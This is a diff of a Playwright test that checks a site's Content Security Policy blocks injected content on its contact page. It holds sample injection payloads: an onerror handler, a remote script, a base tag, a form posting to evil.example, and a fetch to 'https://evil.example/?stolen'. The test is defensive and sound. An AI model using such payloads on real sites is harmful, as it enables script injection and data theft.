@@ -1,43 +1,24 @@
 import {expect, test} from './support';
 
 /** What a page's policy blocks. That it blocks nothing of a page itself: pages.spec.ts. */
-test.use({reducedMotion: 'reduce'});
-
 declare global {
-  function addElement<Tag extends keyof HTMLElementTagNameMap>(
-    tag: Tag,
-    properties: Partial<HTMLElementTagNameMap[Tag]>,
-  ): HTMLElementTagNameMap[Tag];
   interface Window {
-    addElement: typeof addElement;
     /** What was blocked, by its directive. */
     violations: string[];
   }
 }
 
-/** Markup that is put into the page, or what a script does there; and what the policy forbids of it. */
-const attacks: [name: string, attack: string | (() => void), directive: string][] = [
-  ['an event handler', '<img src="/nope.png" onerror="document.title = \'taken over\'">', 'script-src-attr'],
-  ['a style', '<p style="position: fixed; inset: 0">', 'style-src-attr'],
-  ['a frame', '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
-  ['an inline script', () => addElement('script', {textContent: 'document.title = "taken over"'}), 'script-src-elem'],
-  ['another server’s script', () => addElement('script', {src: 'https://evil.example/x.js'}), 'script-src-elem'],
-  ['a base for every link', () => addElement('base', {href: 'https://evil.example/'}), 'base-uri'],
-  [
-    'a form that posts elsewhere',
-    () => addElement('form', {action: 'https://evil.example/', method: 'post'}).submit(),
-    'form-action',
-  ],
-  [
-    'a request to another server',
-    () => {
-      fetch('https://evil.example/?stolen').catch(() => {
-        // The policy's doing: it is what the test waits for.
-      });
-    },
-    'connect-src',
-  ],
-];
+/** What is put into the page, and what the policy forbids of it. */
+const attacks = [
+  ['<img src="/nope.png" onerror="document.title = \'taken over\'">', 'script-src-attr'],
+  ['<p style="position: fixed; inset: 0">', 'style-src-attr'],
+  ['<iframe src="https://evil.example/"></iframe>', 'frame-src'],
+  ['<script>document.title = "taken over"</script>', 'script-src-elem'],
+  ['<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
+  ['<base href="https://evil.example/">', 'base-uri'],
+  ['<form action="https://evil.example/" method="post"></form>', 'form-action'],
+  ['a request to another server', 'connect-src'],
+] as const;
 
 test('whatever gets into a page from outside does nothing: scripts, styles, frames, forms, requests', async ({
   page,
@@ -48,11 +29,6 @@ test('whatever gets into a page from outside does nothing: scripts, styles, fram
     document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
       window.violations.push(effectiveDirective),
     );
-    window.addElement = (tag, properties) => {
-      const element = Object.assign(document.createElement(tag), properties);
-      document.body.append(element);
-      return element;
-    };
   });
   const reached: string[] = [];
   await page.route('https://evil.example/**', (route) => {
@@ -60,16 +36,19 @@ test('whatever gets into a page from outside does nothing: scripts, styles, fram
     return route.abort();
   });
   await page.goto('/contact');
-  for (const [name, attack, directive] of attacks) {
+  for (const [attack, directive] of attacks) {
     const before = await page.evaluate(() => window.violations.length);
     problems.length = 0;
-    await (typeof attack === 'string'
-      ? page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), attack)
-      : page.evaluate(attack));
+    await page.evaluate((markup) => {
+      // Scripts of a fragment run.
+      document.body.append(document.createRange().createContextualFragment(markup));
+      document.querySelector<HTMLFormElement>('body > form')?.submit();
+      if (!markup.startsWith('<')) fetch('https://evil.example/?stolen').catch(() => {}); // as expected
+    }, attack);
     const blocked = () => page.evaluate((before) => window.violations.slice(before), before);
-    await expect.poll(blocked, name).toContain(directive);
+    await expect.poll(blocked, attack).toContain(directive);
     // It is written to the console, where every other test fails on it.
-    await expect.poll(() => problems.length, name).toBeGreaterThan(0);
+    await expect.poll(() => problems.length, attack).toBeGreaterThan(0);
   }
   expect(await page.evaluate(() => [document.title, document.baseURI])).not.toContain('taken over');
   expect(page.url()).toMatch(/\/contact$/);
